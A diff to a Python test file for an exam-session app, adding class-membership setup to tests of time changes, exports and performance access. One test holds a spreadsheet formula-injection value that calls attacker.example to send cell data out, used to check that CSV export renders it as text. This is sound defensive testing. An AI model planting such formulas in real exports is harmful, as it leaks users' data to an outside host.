@@ -12,7 +12,7 @@ from sqlalchemy import text
 
 from examsync.store import sessions as store
 from examsync.store.database import SYSTEM
-from tests.conftest import Api, section_questions
+from tests.conftest import Api, section_questions, teach
 
 
 def first_questions(state: dict) -> list[dict]:
@@ -246,6 +246,7 @@ def test_extended_time_multiplies_the_limit(api: Api) -> None:
 
 
 def test_a_teacher_adds_time_to_a_section_in_progress(student: Api, teacher: Api) -> None:
+    teach(teacher, student, student.test_id("mini-diagnostic"))  # the student is in the teacher's class
     state = student.start()
     q1 = section_questions(state)[0]
     student.send(state["id"], student.op("navigate", question_id=q1["id"]))
@@ -264,6 +265,7 @@ def test_a_teacher_adds_time_to_a_section_in_progress(student: Api, teacher: Api
 
 
 def test_a_teacher_gives_a_student_extra_time_on_every_session(student: Api, teacher: Api) -> None:
+    teach(teacher, student, student.test_id("mini-diagnostic"))  # the student is in the teacher's class
     state = student.start()
     q1 = section_questions(state)[0]
     student.send(state["id"], student.op("navigate", question_id=q1["id"]))
@@ -276,6 +278,7 @@ def test_a_teacher_gives_a_student_extra_time_on_every_session(student: Api, tea
 
 
 def test_a_completed_session_refuses_a_time_change_and_logs_nothing(student: Api, teacher: Api) -> None:
+    teach(teacher, student, student.test_id("mini-diagnostic"))  # the student is in the teacher's class
     state = student.start()
     student.send(state["id"], student.op("complete"))
 
@@ -286,6 +289,8 @@ def test_a_completed_session_refuses_a_time_change_and_logs_nothing(student: Api
 
 
 def test_a_time_change_for_a_student_leaves_their_completed_sessions_alone(student: Api, teacher: Api) -> None:
+    teach(teacher, student, student.test_id("mini-practice"))  # the student is in the teacher's class
+    teach(teacher, student, student.test_id("mini-diagnostic"))
     done = student.start("mini-practice")
     student.send(done["id"], student.op("complete"))
     ran_out = student.start()  # its first section runs out before the change arrives
@@ -423,6 +428,7 @@ def test_the_sweep_reschedules_a_section_whose_due_time_was_never_recorded(stude
 
 
 def test_staff_export_attempts_with_correctness_only_for_submitted_sections(student: Api, teacher: Api) -> None:
+    teach(teacher, student, student.test_id("mini-diagnostic"))  # the student is in the teacher's class
     state = student.start()
     q1, q2 = section_questions(state)
     q3 = section_questions(state, 1)[0]
@@ -441,6 +447,7 @@ def test_staff_export_attempts_with_correctness_only_for_submitted_sections(stud
 
 
 def test_the_csv_export_shows_formula_like_answers_as_text(student: Api, teacher: Api) -> None:
+    teach(teacher, student, student.test_id("mini-diagnostic"))  # the student is in the teacher's class
     state = student.start()
     short_answer = section_questions(state, 1)[0]
     formula, number = '=HYPERLINK("http://attacker.example/?"&A1,"click")', "-3"
@@ -463,6 +470,7 @@ def test_history_resumes_after_a_sequence_number(student: Api) -> None:
 
 
 def test_staff_read_a_students_performance_and_students_cannot(student: Api, teacher: Api, api: Api) -> None:
+    teach(teacher, student, student.test_id("mini-diagnostic"))  # the student is in the teacher's class
     state = student.start()
     student.send(state["id"], student.op("complete"))
     user_id = student.get("/me").json()["user_id"]
